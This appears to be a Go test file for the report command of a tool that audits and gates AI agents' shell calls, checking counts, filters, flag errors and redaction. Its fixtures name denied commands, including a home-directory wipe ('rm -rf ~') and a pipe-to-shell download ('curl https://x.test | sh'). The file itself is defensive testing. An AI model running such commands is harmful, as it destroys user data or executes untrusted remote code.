package cli

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/moatdev/moat/internal/call"
	"github.com/moatdev/moat/internal/findings"
	"github.com/moatdev/moat/internal/report"
)

// TestReportFromLog reads a generated audit log through the command: the counts of the
// records in the period, exactly.
func TestReportFromLog(t *testing.T) {
	home := t.TempDir()
	rs := sampleRecords()
	rs[0].Findings = []call.Finding{findings.New("destructive.fs.recursive-delete", "rm -rf ~")}
	rs[4].Findings = []call.Finding{findings.New("rce.pipe-to-shell", "curl | sh")}
	writeLog(t, filepath.Join(home, ".local/state/moat/audit.jsonl"), rs, 0)
	tests := []struct {
		args                  []string
		total                 int
		decisions, owasp, top []string // "id=count"
	}{
		{nil, 6, []string{"deny=2", "ask=1", "audit=1", "allow=2"}, []string{"LLM06=2", "LLM05=1"},
			[]string{"curl https://x.test | sh=1", "rm -rf ~=1"}},
		{[]string{"--since", "6h"}, 4, []string{"deny=1", "ask=1", "audit=1", "allow=1"}, []string{"LLM05=1", "LLM06=1"},
			[]string{"curl https://x.test | sh=1"}},
		{[]string{"--since", "2026-11-25T11:30:00Z"}, 1, []string{"deny=0", "ask=0", "audit=0", "allow=1"}, []string{}, []string{}},
	}
	flat := func(cs []report.Count) []string {
		out := []string{}
		for _, c := range cs {
			out = append(out, fmt.Sprintf("%s=%d", c.ID, c.Count))
		}
		return out
	}
	for _, tt := range tests {
		a, stdout, stderr := testApp(home)
		if code := Main(append([]string{"report", "--format", "json"}, tt.args...), a.env); code != 0 {
			t.Fatalf("report %v: exit %d: %s", tt.args, code, stderr)
		}
		var got report.Report
		if err := json.Unmarshal([]byte(stdout.String()), &got); err != nil {
			t.Fatalf("report %v: %v\n%s", tt.args, err, stdout)
		}
		if got.Total != tt.total || !reflect.DeepEqual(flat(got.Decisions), tt.decisions) ||
			!reflect.DeepEqual(flat(got.OWASP), tt.owasp) || !reflect.DeepEqual(flat(got.TopDenied), tt.top) {
			t.Errorf("report %v: total %d, decisions %v, owasp %v, denied %v; want %d %v %v %v", tt.args,
				got.Total, flat(got.Decisions), flat(got.OWASP), flat(got.TopDenied), tt.total, tt.decisions, tt.owasp, tt.top)
		}
	}
	for _, format := range []string{"", "md", "html"} {
		args := []string{"report"}
		if format != "" {
			args = append(args, "--format", format)
		}
		a, stdout, stderr := testApp(home)
		if code := Main(args, a.env); code != 0 || !strings.Contains(stdout.String(), "moat report") {
			t.Errorf("report --format %q: exit %d, stderr %q, stdout %q", format, code, stderr, stdout)
		}
	}
}

func TestReportBadFlags(t *testing.T) {
	home := t.TempDir()
	for _, tt := range []struct {
		args []string
		err  string
	}{
		{[]string{"--since", "yesterday"}, `--since "yesterday" is neither a span`},
		{[]string{"--format", "pdf"}, `--format "pdf"`},
		{[]string{"--top", "0"}, "--top 0"},
		{[]string{"--nope"}, "unknown flag"},
		{[]string{"extra"}, "unknown command"},
	} {
		a, _, stderr := testApp(home)
		if code := Main(append([]string{"report"}, tt.args...), a.env); code != exitUsage || !strings.Contains(stderr.String(), tt.err) {
			t.Errorf("report %v: exit %d, stderr %q; want %d and %q", tt.args, code, stderr, exitUsage, tt.err)
		}
	}
}

func TestReportNoLog(t *testing.T) {
	a, stdout, stderr := testApp(t.TempDir())
	if code := Main([]string{"report", "--format", "json"}, a.env); code != 0 || !strings.Contains(stdout.String(), `"total": 0`) || !strings.Contains(stderr.String(), "no audit log") {
		t.Errorf("exit %d, stdout %q, stderr %q", code, stdout, stderr)
	}
}

// moat report gives the same report from the JSONL log as from the daemon's database
// holding the same records, redacted in both.
func TestReportDatabaseSameOutput(t *testing.T) {
	jsonlHome, dbHome := t.TempDir(), t.TempDir()
	rs := dbSampleRecords()
	writeLog(t, filepath.Join(jsonlHome, ".local/state/moat/audit.jsonl"), rs, 0)
	writeDB(t, dbHome, rs)
	for _, args := range [][]string{nil, {"--format", "json"}, {"--format", "html", "--since", "2h"}} {
		var outs [2]string
		for i, home := range []string{jsonlHome, dbHome} {
			a, stdout, stderr := testApp(home)
			if code := Main(append([]string{"report"}, args...), a.env); code != 0 {
				t.Fatalf("report %v (home %d): exit %d: %s", args, i, code, stderr)
			}
			outs[i] = stdout.String()
		}
		if outs[0] != outs[1] {
			t.Errorf("report %v differs between the JSONL log and the database:\n--- JSONL\n%s--- database\n%s", args, outs[0], outs[1])
		}
		if !strings.Contains(outs[1], "psql") || strings.Contains(outs[1], "hunter2canary") {
			t.Errorf("report %v: the denied psql call is missing or unredacted:\n%s", args, outs[1])
		}
	}
}
